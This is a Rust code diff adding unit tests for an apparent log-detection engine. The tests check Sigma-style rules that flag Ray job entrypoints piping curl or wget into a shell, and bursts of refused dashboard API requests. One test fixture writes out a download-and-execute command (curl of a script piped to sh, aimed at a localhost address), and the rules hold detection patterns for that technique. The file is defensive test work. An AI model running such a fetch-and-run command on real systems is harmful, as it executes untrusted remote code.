@@ -655,3 +655,92 @@ mod props {
         }
     }
 }
+
+/// Events built as the Ray decoder describes them, from verbatim lines of the
+/// Ray corpus (`shared/corpus/ray/dev`): the REST job whose entrypoint pipes a
+/// download into a shell, and a burst of unauthenticated API requests.
+mod corpus_lines {
+    use super::*;
+
+    const RULES: &str = "title: Ray job entrypoint downloads and runs code\nid: ray-download-exec\nlevel: high\ntags: [attack.execution, attack.t1059.004]\n\
+logsource: {product: ray}\ndetection:\n  fetch:\n    process.command_line|contains: [curl , wget ]\n  run:\n    process.command_line|re: '\\|\\s*(ba)?sh\\b'\n  condition: fetch and run\n\
+---\ntitle: Ray dashboard request refused\nname: ray_api_refused\nlogsource: {product: ray, service: dashboard}\ndetection:\n  sel:\n    http.response.status_code: [401, 403]\n  condition: sel\n\
+---\ntitle: Ray API requests refused repeatedly\nid: ray-api-refused-burst\nlevel: medium\ncorrelation:\n  type: event_count\n  rules: ray_api_refused\n  group-by: [source.ip]\n  timespan: 1m\n  condition: {gte: 4}\n";
+
+    fn line_event(ts: &str, dataset: &'static str, line: &str) -> Event {
+        let mut e = Event::new(
+            EventId::derive("corpus", 0, line.as_bytes()),
+            ts.parse().unwrap(),
+            "ray",
+            dataset,
+            line,
+        );
+        e.message = line.to_owned();
+        e
+    }
+
+    #[test]
+    fn download_and_execute_entrypoint() {
+        let set = rules(RULES);
+        let line = "Running entrypoint for job raysubmit_curlpipe_dev: bash -c 'curl -s http://127.0.0.1:9/x.sh | sh'";
+        let mut e = line_event("2026-11-22T12:38:04.5Z", "ray.job", line);
+        e.set(
+            "process.command_line",
+            "bash -c 'curl -s http://127.0.0.1:9/x.sh | sh'",
+        );
+        e.set("ray.job.submission_id", "raysubmit_curlpipe_dev");
+        let alerts = run(&set, &[e]);
+        assert_eq!(alerts.len(), 1);
+        assert_eq!(alerts[0].rule_id, "ray-download-exec");
+        assert!(
+            alerts[0].explanation.contains("matched fetch, run"),
+            "{}",
+            alerts[0].explanation
+        );
+        // The benign driver from the same corpus does not match.
+        let mut benign = line_event(
+            "2026-11-22T12:37:21.7Z",
+            "ray.job",
+            "Running entrypoint for job 01000000: python normal_driver.py",
+        );
+        benign.set("process.command_line", "python normal_driver.py");
+        assert!(run(&set, &[benign]).is_empty());
+    }
+
+    #[test]
+    fn unauthenticated_burst() {
+        let set = rules(RULES);
+        let lines = [
+            (
+                "2026-11-22T12:37:43.229Z",
+                "GET",
+                "2026-11-22 12:37:43,229\tINFO web_log.py:229 -- 127.0.0.1 [22/Nov/2026:12:37:43 +0000] 'GET /api/jobs/ HTTP/1.1' 401 205 bytes 447 us '-' 'curl/7.88.1'",
+            ),
+            (
+                "2026-11-22T12:37:43.237Z",
+                "POST",
+                "2026-11-22 12:37:43,237\tINFO web_log.py:229 -- 127.0.0.1 [22/Nov/2026:12:37:43 +0000] 'POST /api/jobs/ HTTP/1.1' 401 205 bytes 307 us '-' 'curl/7.88.1'",
+            ),
+        ];
+        let mut events = Vec::new();
+        for i in 0..4 {
+            let (ts, method, line) = lines[i % 2];
+            let mut e = line_event(ts, "ray.dashboard", line);
+            e.id = EventId::derive("corpus", i as u64, line.as_bytes());
+            e.set("source.ip", "127.0.0.1")
+                .set("http.request.method", method)
+                .set("url.path", "/api/jobs/")
+                .set("http.response.status_code", 401i64);
+            events.push(e);
+        }
+        let alerts = run(&set, &events);
+        assert_eq!(alerts.len(), 1, "{alerts:?}");
+        assert_eq!(alerts[0].rule_id, "ray-api-refused-burst");
+        assert_eq!(alerts[0].group["source.ip"], "127.0.0.1");
+        assert_eq!(alerts[0].count, 4);
+        assert!(
+            run(&set, &events[..3]).is_empty(),
+            "three refusals stay under the threshold"
+        );
+    }
+}
